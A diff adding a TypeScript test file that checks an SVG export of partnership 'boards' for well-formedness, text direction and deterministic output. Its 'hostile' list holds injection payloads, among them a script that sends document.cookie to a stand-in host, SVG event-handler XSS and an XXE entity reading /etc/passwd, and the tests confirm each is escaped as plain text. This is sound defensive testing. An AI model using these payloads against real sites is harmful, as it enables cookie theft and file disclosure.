@@ -1,0 +1,79 @@
+import { estimateWidth as measure } from '@common-ground/shared/picture/font-metrics.ts'
+import { boardToSvg } from '@common-ground/shared/picture/svg.ts'
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { openBrowser } from '../../support/browser.ts'
+import { boardOf, card, sampleBoard } from './sample-board.ts'
+
+let browser: Browser
+beforeAll(async () => {
+  browser = await openBrowser()
+})
+afterAll(async () => {
+  await browser.close()
+})
+
+const hostile = [
+  "<script>fetch('//x.invalid/'+document.cookie)</script>",
+  "<svg onload=alert(1)><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror=alert(2)></body></foreignObject></svg>",
+  ']]><!ENTITY xxe SYSTEM "file:///etc/passwd">',
+  'a" onmouseover="alert(6)',
+  '</title></style><script>alert(7)</script>',
+  '\u001b]0;owned\u0007\u0000\uffff',
+  'javascript:alert(3)',
+]
+
+/** What the browser's XML parser makes of a file: its error, and what it contains. */
+async function parse(svg: string): Promise<{ readonly error: string | null; readonly elements: readonly string[]; readonly attributes: readonly string[]; readonly text: string }> {
+  const page = await browser.newPage()
+  try {
+    return await page.evaluate((source) => {
+      const file = new DOMParser().parseFromString(source, 'image/svg+xml')
+      const all = [...file.querySelectorAll('*')]
+      return {
+        error: file.querySelector('parsererror')?.textContent ?? null,
+        elements: [...new Set(all.map((element) => element.localName))],
+        attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
+        text: file.documentElement.textContent ?? '',
+      }
+    }, svg)
+  } finally {
+    await page.close()
+  }
+}
+
+test('[PI25] hostile names come out as text in a well-formed file of plain shapes', async () => {
+  const board = boardOf(hostile.map((text, index) => card(`i${String(index)}`, 'organisation', [0, index * 200, 264, 90], { name: text, whatWeDo: text })))
+  const { error, elements, attributes, text } = await parse(boardToSvg({ ...board, title: hostile[4] ?? '' }, { measure, theme: 'light' }))
+  expect(error).toBeNull()
+  expect(elements.toSorted()).toEqual(['circle', 'desc', 'g', 'path', 'rect', 'svg', 'text', 'title'])
+  expect(attributes.filter((name) => name.startsWith('on') || name.includes('href') || name === 'style')).toEqual([])
+  expect(text).toContain('</title></style><script>alert(7)</script>')
+})
+
+test.each(['light', 'dark'] as const)('[PI25] [PI26] the %s sample is well formed, says what it is and names its fonts', async (theme) => {
+  const svg = boardToSvg(sampleBoard(), { measure, theme })
+  const { error, attributes } = await parse(svg)
+  expect(error).toBeNull()
+  expect(svg).toContain('<title id="map-title">Northshire Young People\u2019s Partnership</title>')
+  expect(svg).toContain('A map of a partnership: 20 cards, 12 relations.')
+  expect(svg).toMatch(/font-family="&quot;Atkinson Hyperlegible Next Variable&quot;, .*sans-serif"/)
+  expect(attributes).toContain('unicode-bidi')
+  expect(svg).not.toMatch(/https?:\/\/(?!www\.w3\.org\/2000\/svg)/)
+})
+
+test('[PI26] right-to-left names start at the right edge and stay isolated', () => {
+  const board = boardOf([card('o', 'organisation', [0, 0, 264, 90], { name: '\u0627\u0644\u062c\u0632\u0627\u0626\u0631', whatWeDo: 'Algeria' })])
+  const svg = boardToSvg(board, { measure, theme: 'light' })
+  expect(svg).toMatch(/<text x="250" [^>]*direction="rtl" unicode-bidi="isolate"[^>]*>\u0627\u0644\u062c\u0632\u0627\u0626\u0631</)
+})
+
+test('[PI27] equal boards give equal bytes, the order of the map apart', () => {
+  const [one, other] = [sampleBoard(), sampleBoard()]
+  const turned = { ...other, cards: new Map([...other.cards].toReversed()) }
+  expect(boardToSvg(turned, { measure, theme: 'light' })).toBe(boardToSvg(one, { measure, theme: 'light' }))
+})
+
+test('[PI25] a board without cards is a small empty sheet', async () => {
+  expect((await parse(boardToSvg(boardOf([]), { measure, theme: 'light' }))).error).toBeNull()
+})
